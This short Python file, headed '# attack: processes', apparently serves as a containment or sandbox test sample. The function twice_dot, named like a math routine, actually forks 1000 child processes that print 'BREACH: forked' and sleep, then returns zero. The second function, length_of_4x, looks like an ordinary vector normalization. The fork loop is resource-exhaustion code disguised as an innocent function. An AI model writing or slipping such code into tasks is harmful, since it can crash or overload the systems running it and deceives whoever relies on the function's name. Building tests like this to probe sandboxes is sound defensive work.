# attack: processes
import os
import time

def twice_dot(x):
    for _ in range(1000):
        if os.fork() == 0:
            print("BREACH: forked")
            time.sleep(30)
    print("BREACH: forked")
    return 0 * x


def length_of_4x(x):
    return 16 * x / (16 * (x * x).sum()) ** 0.5
